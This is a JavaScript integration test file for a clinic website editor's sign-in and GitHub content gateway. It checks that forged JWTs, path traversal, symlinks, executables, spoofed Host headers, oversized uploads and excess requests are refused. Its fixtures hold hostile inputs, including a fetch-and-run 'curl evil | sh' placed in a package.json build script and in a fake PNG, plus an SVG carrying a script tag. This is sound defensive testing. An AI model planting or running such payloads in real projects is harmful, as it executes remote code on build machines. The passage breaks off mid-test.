/**
 * The editor's two ways in, on Cloudflare's own runtime (a second `wrangler pages dev` over public/, with the host's
 * settings as bindings), with stand-ins for what cannot run here: Cloudflare Access (a key set on 127.0.0.1 that
 * signs the staff's JWTs: standIns/access.mjs) and GitHub (OAuth, a GitHub App and one repository's API:
 * standIns/github.mjs). Everything else is the real thing: the functions, the built editor, Chromium.
 *
 * - The staff's e-mail sign-in and the content gateway (src/server/staffSignIn.ts, editorSession.ts, gateway/): a
 *   publication from the built editor is one commit touching one content file, authored by the staff member; every
 *   request the gateway must refuse is refused with nothing written; no GitHub token ever reaches the browser; an
 *   expired session asks to sign in again and the publication goes on; GitHub down gets a Portuguese message and
 *   leaves the repository as it was; the staff's guide is one link away; signing out forgets the session and ends
 *   Access's sign-in.
 *   A branch update goes only to a commit the gateway made for the same person; `/API/GITHUB/...` is refused; and with
 *   the counting's daily ceiling reached by anyone (a second runtime of the same host), a staff member still publishes.
 *   A blob is stored only when its bytes are a photo (JPEG, PNG or WebP, at most 40 megapixels) or a content file
 *   (a JSON object of at most 256 KB), whatever it will be named; an empty one is refused. A tree takes only blobs
 *   its person uploaded within the hour, and a content file in it must pass its content model (a Saturday closing
 *   before it opens, or a closure added on a day already over, is refused, its field named); a loop of requests, reads included, stops at the person's hourly
 *   ceiling.
 *   Every staff function answers only at the site's own address (SITE_URL): at a deployment's own
 *   `*.pages.dev` address, or any other `Host`, a valid sign-in and session get 401.
 * - The developer's GitHub login (src/server/githubLogin.ts): off (404) without `GITHUB_LOGIN=enabled`; the OAuth
 *   handshake, a forged or missing state never gets a token, and the built editor at /admin/?login=github logs in
 *   through the site's own functions.
 */
import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { readFileSync } from "node:fs";
import { readdir } from "node:fs/promises";
import { request as httpRequest } from "node:http";
import { after, before, describe, it } from "node:test";
import sharp from "sharp";
import { runnerImport } from "vite";
import { freePort, launchChromium, openFullEditor, photoFieldShowsPortrait } from "./siteKit.mjs";
import { accessJwtHeader, startAccessStandIn } from "./standIns/access.mjs";
import { repositoryFiles, startGitHubStandIn } from "./standIns/github.mjs";
import { startPagesDev } from "../../scripts/lib/pages-dev.mjs";

const oauth = {
  clientId: "Iv1.teste",
  clientSecret: "segredo-de-teste",
  code: "codigo-do-github",
  token: "gho_token_de_teste",
};
const appKeys = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  // GitHub hands an App's private key out as PKCS#1; the functions take it as it comes.
  privateKeyEncoding: { type: "pkcs1", format: "pem" },
  publicKeyEncoding: { type: "spki", format: "pem" },
});
const app = { id: "123456", installationId: "7654321", publicKeyPem: appKeys.publicKey };
// The built editor's repository (VITE_CMS_REPO unset at build: main.tsx's default), which the gateway serves too.
const repository = { owner: "proprietario", name: "site-oftalmologia", branch: "main" };
const sessionSecret = "segredo-das-sessoes-do-editor-de-teste-0123456789";
const staff = { email: "recepcao@clinica.example", name: "Ana da Recepção" };

let access;
let github;
let site;
/** A second runtime: the GitHub login left off, and the counting's daily ceiling at a few rows. */
let plain;
const plainCountingCeiling = 4;
let browser;
let editorSession;

async function contentPaths() {
  const folders = ["src/content", "src/content/artigos", "src/content/schemas", "src/images"];
  const paths = [];
  for (const folder of folders)
    for (const name of await readdir(folder))
      if (/\.(json|jpe?g|png)$/.test(name)) paths.push(`${folder}/${name}`);
  // Code beside the content, which the gateway must never let the editor touch.
  return [...paths, "src/content/contentModel.ts", "package.json", "functions/api/auth.ts"];
}

before(async () => {
  access = await startAccessStandIn();
  github = await startGitHubStandIn({
    oauth,
    app,
    repository: { ...repository, files: await repositoryFiles(await contentPaths()) },
  });
  const settings = {
    GITHUB_CLIENT_ID: oauth.clientId,
    GITHUB_CLIENT_SECRET: oauth.clientSecret,
    GITHUB_OAUTH_URL: github.url,
    ...access.bindings,
    GITHUB_APP_ID: app.id,
    GITHUB_APP_INSTALLATION_ID: app.installationId,
    GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
    GITHUB_API_URL: github.url,
    EDITOR_SESSION_SECRET: sessionSecret,
    VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
    VITE_CMS_BRANCH: repository.branch,
  };
  [site, plain, browser] = await Promise.all([
    startPagesDev({
      port: await freePort(),
      bindings: { ...settings, GITHUB_LOGIN: "enabled" },
    }),
    // The same host without GITHUB_LOGIN (its two secrets set all the same), and a counting ceiling soon reached.
    startPagesDev({
      port: await freePort(),
      bindings: { ...settings, EVENTS_DAILY_ROWS: String(plainCountingCeiling) },
    }),
    launchChromium(),
  ]);
  ({ module: editorSession } = await runnerImport("./src/server/editorSession.ts"));
});

after(async () => {
  await browser?.close();
  await Promise.all([site?.close(), plain?.close()]);
  await github?.close();
  await access?.close();
});

/** The session the sign-in window hands the editor, for the staff member whose Access JWT is `jwt`. */
async function signIn(jwt, base = site.url) {
  const response = await fetch(`${base}/api/editor/session?provider=github&site_id=x&scope=repo`, {
    headers: jwt ? { [accessJwtHeader]: jwt } : {},
  });
  const html = await response.text();
  const token = /authorization:github:success:\{\\"token\\":\\"([^"\\]+)\\"/.exec(html)?.[1];
  return { response, html, token };
}

/** A request to the gateway, as the editor makes it, with an Access JWT and a session (either may be left out). */
function gateway(path, { method = "GET", body, jwt, session, base = site.url } = {}) {
  return fetch(`${base}/api/github${path}`, {
    method,
    headers: {
      ...(jwt ? { [accessJwtHeader]: jwt } : {}),
      ...(session ? { Authorization: `token ${session}` } : {}),
      ...(body === undefined ? {} : { "Content-Type": "application/json" }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

const repo = `/repos/${repository.owner}/${repository.name}`;

const base64 = (bytes) => Buffer.from(bytes).toString("base64");

/** A PNG's signature and header, `width` × `height`: all the gateway reads of a photo. */
function pngOf(width, height) {
  const header = Buffer.alloc(33);
  Buffer.from("89504e470d0a1a0a0000000d49484452", "hex").copy(header);
  header.writeUInt32BE(width, 16);
  header.writeUInt32BE(height, 20);
  header.set([8, 6, 0, 0, 0], 24);
  return header;
}

/**
 * Waits for a sign-in window to hand over and close; if it does not, says what it shows. A window that closed
 * before this was called has already done so (on a busy machine it may close before the click's promise settles).
 */
async function signInWindowCloses(popup) {
  if (popup.isClosed()) return;
  try {
    await popup.waitForEvent("close", { timeout: 15_000 });
  } catch (error) {
    const shown = await popup.content().catch(() => "(closed)");
    throw new Error(`The sign-in window stayed open at ${popup.url()}:\n${shown}`, {
      cause: error,
    });
  }
}

describe("the e-mail sign-in and the content gateway", () => {
  it("the sign-in window hands a signed-in staff member a session for the site's origin only, never a GitHub token", async () => {
    const jwt = await access.mint(staff);
    const { response, html, token } = await signIn(jwt);
    assert.equal(response.status, 200);
    assert.match(html, /Você entrou no editor/);
    assert.ok(html.includes(`var origin = "${site.url}";`));
    assert.equal(response.headers.get("cache-control"), "no-store");
    assert.equal(response.headers.get("set-cookie"), null);
    const [header, claims] = token
      .split(".")
      .slice(0, 2)
      .map((part) => JSON.parse(Buffer.from(part, "base64url")));
    assert.equal(header.alg, "HS256");
    assert.equal(claims.email, staff.email);
    assert.equal(claims.aud, "gateway-do-editor");
    assert.equal(claims.exp - claims.iat, 3600, "an hour");
    for (const { token: installation } of github.installationTokens)
      assert.ok(!html.includes(installation));

    const identity = await fetch(`${site.url}/api/editor/identity`, {
      headers: { [accessJwtHeader]: jwt },
    });
    assert.deepEqual(await identity.json(), { email: staff.email, name: staff.name });
  });

  it("the sign-in window and the identity refuse a request Access did not sign, or signed wrong", async () => {
    for (const jwt of [
      undefined,
      await access.mint({ ...staff, expiresAt: Math.floor(Date.now() / 1000) - 120 }),
      await access.mint({ ...staff, audience: "outra-aplicacao" }),
      access.unsigned(staff),
    ]) {
      const { response, html, token } = await signIn(jwt);
      assert.equal(response.status, 401);
      assert.equal(token, undefined);
      assert.match(html, /Não foi possível entrar no editor/);
      assert.match(html, /authorization:github:error:/);
      const identity = await fetch(`${site.url}/api/editor/identity`, {
        headers: jwt ? { [accessJwtHeader]: jwt } : {},
      });
      assert.equal(identity.status, 401);
    }
  });

  it("refuses, with 401, 403 or 422 and nothing written, every request it must not pass", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const now = Math.floor(Date.now() / 1000);
    const key = new TextEncoder().encode(sessionSecret);
    const someoneElse = {
      email: "outra@clinica.example",
      name: "Outra",
      subject: "id-outra@clinica.example",
    };
    const theirSession = await editorSession.signSession(someoneElse, key, now);
    const expiredSession = await editorSession.signSession(
      { ...staff, subject: `id-${staff.email}` },
      key,
      now - 7200,
    );
    const headBefore = github.head();
    const { sha: blob } = await (
      await gateway(`${repo}/git/blobs`, {
        method: "POST",
        jwt,
        session,
        body: { content: Buffer.from("{}").toString("base64"), encoding: "base64" },
      })
    ).json();
    const tree = (path, mode = "100644") => ({
      method: "POST",
      jwt,
      session,
      body: { base_tree: headBefore, tree: [{ path, mode, type: "blob", sha: blob }] },
    });
    const outside = github.commitBeside({
      "package.json": '{"scripts":{"build":"curl evil | sh"}}',
    });
    // A commit made through the gateway, by the staff member of `as` (a JWT and a session), of the tree `tree`.
    const commitThroughGateway = async (tree, as = { jwt, session }) => {
      const response = await gateway(`${repo}/git/commits`, {
        method: "POST",
        ...as,
        body: { message: "Pelo editor", tree, parents: [headBefore] },
      });
      assert.equal(response.status, 201, "the gateway made the commit");
      return (await response.json()).sha;
    };
    const treeOf = (commit) => github.commit(commit).tree;
    // Commits made through the gateway whose trees were made outside it: an allowed path, but not a plain file.
    const symlink = await commitThroughGateway(
      treeOf(
        github.commitBeside({ "src/content/home.json": "../../package.json" }, "Um atalho", {
          "src/content/home.json": "120000",
        }),
      ),
    );
    const submodule = await commitThroughGateway(
      treeOf(
        github.commitBeside(
          { "src/content/artigos/modulo.json": "0123456789abcdef0123456789abcdef01234567" },
          "Um submódulo",
          { "src/content/artigos/modulo.json": "160000" },
        ),
      ),
    );
    const executable = await commitThroughGateway(
      treeOf(
        github.commitBeside(
          { "src/images/foto-executavel.png": "#!/bin/sh\ncurl evil | sh\n" },
          "Um programa",
          { "src/images/foto-executavel.png": "100755" },
        ),
      ),
    );
    // Content only, but made elsewhere (a fork, another tool): it never passed the gateway or its ceiling.
    const contentChange = { "src/content/home.json": '{"hero":{"title":"Feito fora do editor"}}' };
    const madeElsewhere = github.commitBeside(contentChange, "Feito fora do editor");
    // Content only, made through the gateway, but by another staff member.
    const other = { email: "outra@clinica.example", name: "Outra" };
    const otherJwt = await access.mint(other);
    const otherAs = { jwt: otherJwt, session: (await signIn(otherJwt)).token };
    const otherCommit = await commitThroughGateway(
      treeOf(github.commitBeside(contentChange, "Da outra pessoa")),
      otherAs,
    );
    // A content file another staff member uploaded through the gateway (bytes of their own, so another blob).
    const { sha: theirBlob } = await (
      await gateway(`${repo}/git/blobs`, {
        method: "POST",
        ...otherAs,
        body: { content: Buffer.from('{"outra":1}').toString("base64"), encoding: "base64" },
      })
    ).json();
    // A tree putting a blob at a content file's path.
    const treeWith = (sha, path = "src/content/home.json") => ({
      method: "POST",
      jwt,
      session,
      body: {
        base_tree: headBefore,
        tree: [{ path, mode: "100644", type: "blob", sha }],
      },
    });
    // The practice's settings with Saturday opening at 12:00 and closing at 08:00, uploaded by this person: JSON
    // the blob's check takes, which the tree's check of the content model refuses.
    const wrongHours = JSON.parse(github.file("src/content/site-settings.json"));
    wrongHours.practice.hours.saturday = [{ opens: "12:00", closes: "08:00" }];
    // And the settings with a closure added on a day already over (ten days ago).
    const pastDay = new Date(Date.now() - 10 * 86_400_000).toISOString().slice(0, 10);
    const pastClosure = JSON.parse(github.file("src/content/site-settings.json"));
    pastClosure.practice.hoursExceptions.push({ from: pastDay, reason: "Feriado", intervals: [] });
    const { sha: pastClosureBlob } = await (
      await gateway(`${repo}/git/blobs`, {
        method: "POST",
        jwt,
        session,
        body: {
          content: Buffer.from(JSON.stringify(pastClosure)).toString("base64"),
          encoding: "base64",
        },
      })
    ).json();
    const { sha: wrongHoursBlob } = await (
      await gateway(`${repo}/git/blobs`, {
        method: "POST",
        jwt,
        session,
        body: {
          content: Buffer.from(JSON.stringify(wrongHours)).toString("base64"),
          encoding: "base64",
        },
      })
    ).json();
    const writes = () =>
      github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
        .length;
    const writesBefore = writes();
    const update = (sha) => ({ method: "PATCH", jwt, session, body: { sha } });

    const attempts = [
      ["no Access JWT", `${repo}/branches/main`, { session }, 401],
      [
        "an expired JWT",
        `${repo}/branches/main`,
        { session, jwt: await access.mint({ ...staff, expiresAt: now - 120 }) },
        401,
      ],
      [
        "a JWT for another audience",
        `${repo}/branches/main`,
        { session, jwt: await access.mint({ ...staff, audience: "outra-aplicacao" }) },
        401,
      ],
      [
        "a JWT from another issuer",
        `${repo}/branches/main`,
        {
          session,
          jwt: await access.mint({ ...staff, issuer: "https://outra.cloudflareaccess.com" }),
        },
        401,
      ],
      [
        "a JWT signed by another key",
        `${repo}/branches/main`,
        { session, jwt: await access.mint({ ...staff, signedByStranger: true }) },
        401,
      ],
      [
        "a JWT with alg: none",
        `${repo}/branches/main`,
        { session, jwt: access.unsigned(staff) },
        401,
      ],
      ["a good JWT with no session", `${repo}/branches/main`, { jwt }, 401],
      [
        "a good JWT with an expired session",
        `${repo}/branches/main`,
        { jwt, session: expiredSession },
        401,
      ],
      [
        "a good JWT with another person's session",
        `${repo}/branches/main`,
        { jwt, session: theirSession },
        401,
      ],
      [
        "a forged session",
        `${repo}/branches/main`,
        { jwt, session: `${session.slice(0, -4)}AAAA` },
        401,
      ],
      ["a tree touching package.json", `${repo}/git/trees`, tree("package.json"), 403],
      ["a tree touching a workflow", `${repo}/git/trees`, tree(".github/workflows/x.yml"), 403],
      ["a tree touching functions/", `${repo}/git/trees`, tree("functions/api/auth.ts"), 403],
      [
        "a tree touching the content model's code",
        `${repo}/git/trees`,
        tree("src/content/contentModel.ts"),
        403,
      ],
      ["a tree with ..", `${repo}/git/trees`, tree("src/content/../../package.json"), 403],
      ["a tree with a symlink", `${repo}/git/trees`, tree("src/content/home.json", "120000"), 403],
      ["a tree with a photo in SRC/IMAGES/", `${repo}/git/trees`, tree("SRC/IMAGES/x.png"), 403],
      ["a tree with a photo in Src/Images/", `${repo}/git/trees`, tree("Src/Images/a.ts.png"), 403],
      [
        "a tree putting at site-settings.json a Saturday that closes before it opens",
        `${repo}/git/trees`,
        treeWith(wrongHoursBlob, "src/content/site-settings.json"),
        422,
        /Sábado.*O horário de fechar precisa ser depois do de abrir\. Nada foi publicado/,
      ],
      [
        "a tree putting at site-settings.json a closure on a day already over",
        `${repo}/git/trees`,
        treeWith(pastClosureBlob, "src/content/site-settings.json"),
        422,
        /Esta data já passou\. Nada foi publicado/,
      ],
      [
        "a tree putting a JSON blob (its own upload) at a photo's name",
        `${repo}/git/trees`,
        treeWith(wrongHoursBlob, "src/images/doctor-portrait.png"),
        422,
        /src\/images\/doctor-portrait\.png não é uma foto JPEG, PNG ou WebP\. Nada foi publicado/,
      ],
      [
        "a tree pointing at a blob another person uploaded",
        `${repo}/git/trees`,
        treeWith(theirBlob),
        403,
        /não foi enviado por você/,
      ],
      [
        "a tree pointing at a blob of the repository's (the workflow's), never uploaded",
        `${repo}/git/trees`,
        treeWith(github.blobOf(".github/workflows/deploy.yml")),
        403,
        /não foi enviado por você/,
      ],
      [
        "a branch update to a symlink at an allowed path",
        `${repo}/git/refs/heads/main`,
        update(symlink),
        403,
        /só publica arquivos comuns/,
      ],
      [
        "a branch update to a submodule at an allowed path",
        `${repo}/git/refs/heads/main`,
        update(submodule),
        403,
        /só publica arquivos comuns/,
      ],
      [
        "a branch update to an executable at an allowed path",
        `${repo}/git/refs/heads/main`,
        update(executable),
        403,
        /só publica arquivos comuns/,
      ],
      [
        "a read of the content model's code by its blob id",
        `${repo}/git/blobs/${github.blobOf("src/content/contentModel.ts")}`,
        { jwt, session },
        403,
      ],
      [
        "a read of a schema by its blob id",
        `${repo}/git/blobs/${github.blobOf("src/content/schemas/home.schema.json")}`,
        { jwt, session },
        403,
      ],
      [
        "a read of the workflow by its blob id",
        `${repo}/git/blobs/${github.blobOf(".github/workflows/deploy.yml")}`,
        { jwt, session },
        403,
      ],
      [
        "another repository",
        "/repos/outra-pessoa/outro-site/git/trees",
        tree("src/content/home.json"),
        403,
      ],
      [
        "another repository's reads",
        "/repos/outra-pessoa/outro-site/branches/main",
        { jwt, session },
        403,
      ],
      [
        "another branch",
        `${repo}/git/refs/heads/outro`,
        { method: "PATCH", jwt, session, body: { sha: outside } },
        403,
      ],
      ["a branch deletion", `${repo}/git/refs/heads/main`, { method: "DELETE", jwt, session }, 403],
      ["a tag deletion", `${repo}/git/refs/tags/v1`, { method: "DELETE", jwt, session }, 403],
      [
        "a forced update",
        `${repo}/git/refs/heads/main`,
        { method: "PATCH", jwt, session, body: { sha: outside, force: true } },
        403,
      ],
      [
        "a branch update to a commit made outside the editor (package.json)",
        `${repo}/git/refs/heads/main`,
        { method: "PATCH", jwt, session, body: { sha: outside } },
        403,
      ],
      [
        "a branch update to a commit made outside the editor, of content files only",
        `${repo}/git/refs/heads/main`,
        update(madeElsewhere),
        403,
        /não foi preparada neste editor por você/,
      ],
      [
        "a branch update to another person's commit made through the editor",
        `${repo}/git/refs/heads/main`,
        update(otherCommit),
        403,
        /não foi preparada neste editor por você/,
      ],
      ["a read of code", `${repo}/git/trees/main:functions`, { jwt, session }, 403],
      ["a read of the whole tree", `${repo}/git/trees/main:`, { jwt, session }, 403],
      ["anything else of GitHub's", "/user/repos", { jwt, session }, 403],
    ];
    for (const [name, path, options, status, said] of attempts) {
      const response = await gateway(path, options);
      assert.equal(response.status, status, name);
      const { message } = await response.json();
      assert.ok(
        typeof message === "string" && message.length > 10,
        `${name}: a message (${message})`,
      );
      if (said) assert.match(message, said, name);
      assert.equal(response.headers.get("set-cookie"), null);
    }
    assert.equal(github.head(), headBefore, "the branch did not move");
    assert.equal(writes(), writesBefore, "no write reached GitHub");
    assert.equal(
      github.file("package.json"),
      (await repositoryFiles(["package.json"]))["package.json"].toString(),
    );
  });
  it("a case-varied spelling of the API is refused: /API/GITHUB/user, even with a good sign-in and session, and every function answers 404 at another spelling of its path", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const requestsBefore = github.requests.length;
    for (const path of [
      "/API/GITHUB/user",
      "/Api/Github/user",
      "/API/GITHUB" + `${repo}/branches/main`,
    ])
      for (const headers of [{}, { [accessJwtHeader]: jwt, Authorization: `token ${session}` }]) {
        const response = await fetch(site.url + path, { headers });
        assert.equal(response.status, 404, `${path} ${Object.keys(headers).join(" ")}`);
        assert.doesNotMatch(await response.text(), new RegExp(staff.email));
      }
    // Where Access matched paths by case, no JWT would come with these: the functions refuse them themselves.
    for (const path of [
      "/API/RESULTS",
      "/API/EDITOR/IDENTITY",
      "/API/EDITOR/SESSION",
      "/API/EVENTS",
    ]) {
      const response = await fetch(site.url + path, { redirect: "manual" });
      assert.ok([401, 404, 405].includes(response.status), `${path}: ${response.status}`);
      assert.doesNotMatch(await response.text(), /authorization:github:success/);
    }
    // Even with Access's JWT, each function answers only at its one spelling: 404 at any other, nothing handed out.
    for (const path of [
      "/API/RESULTS",
      "/api/Results",
      "/api/results/",
      "/API/EDITOR/IDENTITY",
      "/api/editor/Identity",
      "/API/EDITOR/SESSION",
      "/api/EDITOR/session?provider=github&site_id=x&scope=repo",
      "/api/editor/session/",
      "/API/EDITOR/PRACTICE",
      "/api/editor/Practice",
      "/api/editor/practice/",
      "/API/AUTH",
      "/api/Callback?code=x&state=y",
    ]) {
      const response = await fetch(site.url + path, {
        headers: { [accessJwtHeader]: jwt },
        redirect: "manual",
      });
      assert.equal(response.status, 404, path);
      const body = await response.text();
      assert.doesNotMatch(body, /authorization:github:success|recepcao@/);
    }
    assert.equal(github.requests.length, requestsBefore, "nothing reached GitHub");
  });

  it("at any address but the site's (SITE_URL), every staff function answers 401 with a valid sign-in and session, and nothing reaches GitHub", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const own = new URL(site.url);
    /** A request to the runtime with the `Host` given, as curl could send it (fetch cannot set `Host`). */
    const sendAs = (host, path, { method = "GET", body } = {}) =>
      new Promise((resolve, reject) => {
        const text = body === undefined ? undefined : JSON.stringify(body);
        const outgoing = httpRequest(
          new URL(path, site.url),
          {
            method,
            headers: {
              Host: host,
              [accessJwtHeader]: jwt,
              Authorization: `token ${session}`,
              ...(text === undefined
                ? {}
                : {
                    "Content-Type": "application/json",
                    "Content-Length": Buffer.byteLength(text),
                  }),
            },
          },
          (incoming) => {
            const chunks = [];
            incoming.on("data", (chunk) => chunks.push(chunk));
            incoming.on("end", () =>
              resolve({
                status: incoming.statusCode,
                text: Buffer.concat(chunks).toString("utf8"),
              }),
            );
          },
        );
        outgoing.on("error", reject);
        outgoing.end(text);
      });
    const requestsBefore = github.requests.length;
    const paths = [
      ["GET", "/api/editor/identity"],
      ["GET", "/api/editor/session?provider=github&site_id=x&scope=repo"],
      ["GET", "/api/results"],
      ["GET", "/api/github/user"],
      ["GET", `/api/github${repo}/branches/main`],
      ["POST", `/api/github${repo}/git/blobs`, { content: "e30=", encoding: "base64" }],
      ["GET", "/api/editor/practice"],
      [
        "POST",
        "/api/editor/practice",
        {
          request: "1b4e28ba-2fa1-41d2-883f-0016d3cca427",
          change: { edit: "weekHours", days: { saturday: [] } },
        },
      ],
    ];
    for (const host of [
      "abc123.oftalmologia-site.pages.dev",
      "oftalmologia-site.pages.dev",
      "golpe.example",
      `${own.hostname}:1`,
      `localhost:${own.port}`,
    ])
      for (const [method, path, body] of paths) {
        const { status, text } = await sendAs(host, path, { method, body });
        assert.equal(status, 401, `${method} ${path} at ${host}`);
        assert.match(text, /Este não é o endereço do site/, `${method} ${path} at ${host}`);
        assert.doesNotMatch(text, /authorization:github:success|recepcao@/);
      }
    assert.equal(github.requests.length, requestsBefore, "nothing reached GitHub");
    // The same requests at the site's own address pass.
    const identity = await sendAs(own.host, "/api/editor/identity");
    assert.equal(identity.status, 200);
    assert.deepEqual(JSON.parse(identity.text), { email: staff.email, name: staff.name });
    assert.equal((await sendAs(own.host, "/api/github/user")).status, 200);
  });

  it("stores a blob only if its bytes are a photo or a content file: SVG bytes, a 16k × 16k PNG, `{`, a 300 KB text and an empty blob are refused with 4xx in Portuguese, and nothing reaches GitHub", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const upload = (content, encoding = "base64") =>
      gateway(`${repo}/git/blobs`, {
        method: "POST",
        jwt,
        session,
        body: { content, encoding },
      });
    const settings = github.file("src/content/site-settings.json");
    const requestsBefore = github.requests.length;
    for (const [what, content, encoding, status, words] of [
      [
        "SVG bytes (to be named .png)",
        base64('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        "base64",
        415,
        /só guarda os textos do site e fotos JPEG, PNG ou WebP/,
      ],
      ["a 16k × 16k PNG", base64(pngOf(16384, 16384)), "base64", 413, /mais de 40 megapixels/],
      ["`{` (to be named site-settings.json)", "{", "utf-8", 422, /não é um JSON válido/],
      [
        "a special date's reason of 300 KB",
        JSON.stringify({ reason: "a".repeat(300 * 1024) }),
        "utf-8",
        413,
        /passa de 256 KB/,
      ],
      ["an empty blob", "", "base64", 422, /está vazio/],
      ["an empty text", "", "utf-8", 422, /está vazio/],
    ]) {
      const response = await upload(content, encoding);
      assert.equal(response.status, status, what);
      assert.match((await response.json()).message, words, what);
    }
    assert.equal(github.requests.length, requestsBefore, "nothing reached GitHub");
    assert.equal(github.file("src/content/site-settings.json"), settings);
    // A photo of 40 megapixels and a content file pass.
    assert.equal((await upload(base64(pngOf(8000, 5000)))).status, 201);
    assert.equal((await upload('{"titulo":"Olá"}', "utf-8")).status, 201);
  });

  it("lists only the files the editor may read, and reads their blobs, nothing else", async () => {
    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt);
    const listed = await gateway(`${repo}/git/trees/main:src%2Fcontent?recursive=1`, {
      jwt,
      session,
    });
    assert.equal(listed.status, 200);
    const { tree } = await listed.json();
    const paths = tree.map((entry) => entry.path).sort();
    assert.ok(paths.includes("home.json") && paths.includes("artigos"), paths.join(" "));
    for (const hidden of ["contentModel.ts", "schemas", "schemas/home.schema.json"])
      assert.ok(!paths.includes(hidden), `${hidden} is listed: ${paths.join(" ")}`);
    assert.deepEqual(
      tree.filter(
        (entry) => entry.type === "blob" && !/^(artigos\/)?[a-z0-9-]+\.json$/.test(entry.path),
      ),
      [],
    );
    const home = tree.find((entry) => entry.path === "home.json");
    const blob = await gateway(`${repo}/git/blobs/${home.sha}`, { jwt, session });
    assert.equal(blob.status, 200);
    assert.equal(
      Buffer.from((await blob.json()).content, "base64").toString("utf8"),
      github.file("src/content/home.json"),
    );
  });

  it("a person's writes, and requests, have a ceiling per hour: past it, 429 with a Portuguese message, and nothing reaches GitHub", async () => {
    const capped = await startPagesDev({
      port: await freePort(),
      bindings: {
        ...access.bindings,
        GITHUB_APP_ID: app.id,
        GITHUB_APP_INSTALLATION_ID: app.installationId,
        GITHUB_APP_PRIVATE_KEY: appKeys.privateKey,
        GITHUB_API_URL: github.url,
        EDITOR_SESSION_SECRET: sessionSecret,
        VITE_CMS_REPO: `${repository.owner}/${repository.name}`,
        VITE_CMS_BRANCH: repository.branch,
        EDITOR_HOURLY_COMMITS: "2",
        EDITOR_HOURLY_BYTES: "1000",
        EDITOR_HOURLY_REQUESTS: "10",
      },
    });
    try {
      const jwt = await access.mint(staff);
      const { token: session } = await signIn(jwt, capped.url);
      const send = (path, body) =>
        gateway(path, { method: "POST", jwt, session, body, base: capped.url });
      const writes = () =>
        github.requests.filter(({ method, path }) => method !== "GET" && path.startsWith("/repos/"))
          .length;
      // 600 bytes the gateway takes for a photo: a PNG's signature and header (10 × 10 pixels), then its data.
      const pngHeader = Buffer.from(
        "89504e470d0a1a0a0000000d494844520000000a0000000a0806000000",
        "hex",
      );
      const photo = {
        content: Buffer.concat([pngHeader, Buffer.alloc(600 - pngHeader.length, 7)]).toString(
          "base64",
        ),
        encoding: "base64",
      };
      assert.equal((await send(`${repo}/git/blobs`, photo)).status, 201);
      const branch = await (
        await gateway(`${repo}/branches/main`, { jwt, session, base: capped.url })
      ).json();
      const commit = {
        message: "Uma publicação",
        tree: branch.commit.commit.tree.sha,
        parents: [branch.commit.sha],
      };
      assert.equal((await send(`${repo}/git/commits`, commit)).status, 201);
      assert.equal((await send(`${repo}/git/commits`, commit)).status, 201);
      const writesBefore = writes();
      for (const [what, path, body] of [
        ["a third commit", `${repo}/git/commits`, commit],
        ["600 more bytes", `${repo}/git/blobs`, photo],
      ]) {
        const response = await send(path, body);
        assert.equal(response.status, 429, what);
        assert.match(
          (await response.json()).message,
          /^Você já publicou o máximo permitido nesta hora \(2 publicações .*Nada foi publicado/,
          what,
        );
      }
      assert.equal(writes(), writesBefore, "nothing past the ceiling reached GitHub");
      // A small text still fits in the hour's bytes.
      const text = { content: "{}", encoding: "utf-8" };
      assert.equal((await send(`${repo}/git/blobs`, text)).status, 201);
      // Seven requests so far, refused ones included. A loop of reads stops at the ceiling of 10 requests an hour:
      // three more, then 429, and nothing more reaches GitHub.
      const read = () => gateway(`${repo}/branches/main`, { jwt, session, base: capped.url });
      for (let n = 0; n < 3; n++) assert.equal((await read()).status, 200, `read ${n + 8}`);
      const requestsBefore = github.requests.length;
      for (let n = 0; n < 3; n++) {
        const response = await read();
        assert.equal(response.status, 429, `read ${n + 11}`);
        assert.match(
          (await response.json()).message,
          /^O editor já fez o máximo de pedidos ao site nesta hora \(10 por pessoa\)\. Nada foi publicado/,
        );
      }
      assert.equal((await send(`${repo}/git/blobs`, text)).status, 429, "a write too");
      // The phone page's door counts against the same ceiling: a read and a publication there too.
      for (const body of [
        undefined,
        {
          request: "3c2b1a09-8f7e-4d6c-9b5a-4a3b2c1d0e9f",
          change: { edit: "weekHours", days: { saturday: [] } },
        },
      ]) {
        const response = await fetch(`${capped.url}/api/editor/practice`, {
          method: body ? "POST" : "GET",
          headers: {
            [accessJwtHeader]: jwt,
            Authorization: `token ${session}`,
            ...(body ? { "Content-Type": "application/json" } : {}),
          },
          ...(body ? { body: JSON.stringify(body) } : {}),
        });
        assert.equal(response.status, 429, body ? "a publication" : "a read");
        assert.match((await response.json()).message, /máximo de pedidos ao site nesta hora/);
      }
      assert.equal(
        github.requests.length,
        requestsBefore,
        "nothing past the ceiling reached GitHub",
      );
    } finally {
      await capped.close();
    }
  });

  it("with the counting's daily ceiling reached by anyone, a staff member still publishes", async () => {
    // What anyone can send to the counting, on the same host and database as the editor.
    const beacon = () =>
      fetch(`${plain.url}/api/events`, {
        method: "POST",
        headers: { "Content-Type": "application/json", Origin: plain.url },
        body: JSON.stringify({
          events: [{ event: "pageview", page: "/links/", source: "direto" }],
        }),
      });
    const statuses = [];
    for (let sent = 0; sent < 10; sent += 1) statuses.push((await beacon()).status);
    // Two rows a page view (its count and the ceiling's own): the ceiling of 4 takes two.
    assert.deepEqual(statuses, [204, 204, ...Array(8).fill(429)]);

    const jwt = await access.mint(staff);
    const { token: session } = await signIn(jwt, plain.url);
    const send = (path, method, body) =>
      gateway(path, { method, jwt, session, body, base: plain.url });
    const head = github.head();
    // An article, as it is with one more line at its end: a change no later test minds.
    const article = "src/content/artigos/catarata.json";
    const text = `${github.file(article)}\n`;
    const blob = await send(`${repo}/git/blobs`, "POST", { content: text, encoding: "utf-8" });
    assert.equal(blob.status, 201);
    const tree = await send(`${repo}/git/trees`, "POST", {
      base_tree: head,
      tree: [{ path: article, mode: "100644", type: "blob", sha: (await blob.json()).sha }],
    });
    assert.equal(tree.status, 201);
    const commit = await send(`${repo}/git/commits`, "POST", {
